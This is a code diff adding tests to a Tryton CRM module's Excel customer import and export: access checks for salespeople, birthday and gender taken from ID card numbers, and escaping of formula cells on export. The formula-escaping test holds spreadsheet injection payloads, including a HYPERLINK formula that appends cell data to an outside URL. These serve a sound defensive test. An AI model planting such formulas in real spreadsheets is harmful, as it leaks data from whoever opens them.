@@ -6,23 +6,17 @@ import openpyxl
 import xlwt
 
 from trytond.exceptions import UserError
+from trytond.model.exceptions import AccessError, ValidationError
+from trytond.modules.company.tests import create_company, set_company
 from trytond.modules.crm_customer.customer_excel import (
     Columns, CustomerImporter, template)
-from trytond.modules.crm_customer.tests.tools import ModuleDatabaseTestCase
+from trytond.modules.crm_customer.tests.tools import (
+    ModuleDatabaseTestCase, as_user, create_staff, xlsx)
 from trytond.modules.crm_customer.tests.test_profile import (
     ID_MAN, ID_WOMAN, load_regions)
 from trytond.pool import Pool
 from trytond.tests.test_tryton import with_transaction
 from trytond.transaction import Transaction
-
-
-def xlsx(rows):
-    book = openpyxl.Workbook()
-    for row in rows:
-        book.active.append(row)
-    output = io.BytesIO()
-    book.save(output)
-    return output.getvalue()
 
 
 def xls(rows):
@@ -177,7 +171,8 @@ class CustomerExcelTestCase(ModuleDatabaseTestCase):
                 self.assertTrue(zhang.sms_consent)
                 self.assertEqual(zhang.sms_consent_date, dt.date(2026, 1, 1))
                 wang, = Party.search([('name', '=', "王芳")])
-                self.assertEqual(wang.gender, None)
+                # From the ID card number
+                self.assertEqual(wang.gender, 'female')
                 self.assertEqual(len(wang.contact_mechanisms), 1)
 
             rows[1][0] = "张三丰"
@@ -237,6 +232,95 @@ class CustomerExcelTestCase(ModuleDatabaseTestCase):
                     key=lambda r: r['id']), before)
             self.assertEqual(parties[0].addresses[0].street, "科技园路1号")
             self.assertEqual(len(parties[0].contact_mechanisms), 1)
+
+    @with_transaction()
+    def test_import_as_the_user(self):
+        """A salesperson's import updates no customer they cannot see and
+        saves as they would in the form, with the ORM's checks"""
+        pool = Pool()
+        Party = pool.get('party.party')
+        company = create_company()
+        with set_company(company), chinese():
+            sales1 = create_staff(company, 'sales1', 'group_salesperson')
+            sales2 = create_staff(company, 'sales2', 'group_salesperson')
+            other, = Party.create([{
+                        'name': "李娜的客户",
+                        'owner': sales2.employee.id,
+                        'mobile': '13900139000',
+                        }])
+            with as_user(sales1):
+                # By its number or by its mobile
+                importer = CustomerImporter(xlsx([
+                            ["客户编号", "客户名称", "身份证号码", "短信营销同意"],
+                            [other.code, "改名", ID_MAN, "是"],
+                            ]))
+                self.assertEqual(reasons(importer), [(2, "客户编号")])
+                self.assertIn(other.code, importer.messages[0])
+                self.assertIn("不在您可以查看的客户中", importer.messages[0])
+                with self.assertRaises(UserError):
+                    importer.save()
+                importer = CustomerImporter(xlsx([
+                            ["客户名称", "手机", "负责销售员"],
+                            ["改名", "139 0013 9000", "sales1"],
+                            ]))
+                self.assertEqual(reasons(importer), [(2, "手机")])
+
+                # Past the check, the ORM refuses what the form would
+                importer = CustomerImporter(xlsx([
+                            ["客户名称", "负责销售员"], ["新客户", "sales2"]]))
+                self.assertEqual(reasons(importer), [(2, "负责销售员")])
+                importer.errors.clear()
+                with self.assertRaises(AccessError):
+                    importer.save()
+                importer = CustomerImporter(xlsx([
+                            ["客户名称"], ["长" * 101]]))
+                self.assertEqual(importer.errors, [])
+                with self.assertRaises(ValidationError):
+                    importer.save()
+
+            other = Party(other.id)
+            self.assertEqual(
+                (other.name, other.id_card_number, other.sms_consent,
+                    other.owner),
+                ("李娜的客户", None, False, sales2.employee))
+
+    @with_transaction()
+    def test_import_birthday_from_id_card(self):
+        "An imported ID card gives the birthday and gender, or refuses others"
+        pool = Pool()
+        Party = pool.get('party.party')
+        with chinese():
+            importer = CustomerImporter(xlsx([
+                        ["客户名称", "身份证号码", "生日", "性别"],
+                        ["张三", ID_MAN, None, None],
+                        ["王芳", ID_WOMAN, "1990-03-02", "男"],
+                        ]))
+            self.assertEqual(reasons(importer), [(3, "身份证号码")])
+            self.assertIn("1990-03-01", importer.messages[0])
+            importer.to_create.pop()
+            importer.errors.clear()
+            importer.save()
+            zhang, = Party.search([('name', '=', "张三")])
+            self.assertEqual(
+                (zhang.birthday, zhang.gender), (dt.date(1985, 2, 15), 'male'))
+
+    @with_transaction()
+    def test_export_formulas_as_text(self):
+        "A cell that a spreadsheet would run as a formula is written as text"
+        pool = Pool()
+        Party = pool.get('party.party')
+        Export = pool.get('party.party.export', type='report')
+        names = ['=HYPERLINK("http://example.com/?"&A1,"点我")', '+1+1',
+            '-2+3', '@SUM(A1:A9)']
+        with chinese():
+            parties = Party.create([{'name': n} for n in names])
+            _, content, _, _ = Export.execute([p.id for p in parties], {})
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+        column = [c.value for c in sheet[1]].index("客户名称") + 1
+        cells = [sheet.cell(r, column) for r in range(2, len(names) + 2)]
+        self.assertEqual([c.value for c in cells], names)
+        self.assertEqual({c.data_type for c in cells}, {'s'})
+        self.assertTrue(all(c.quotePrefix for c in cells))
 
 
 del ModuleDatabaseTestCase
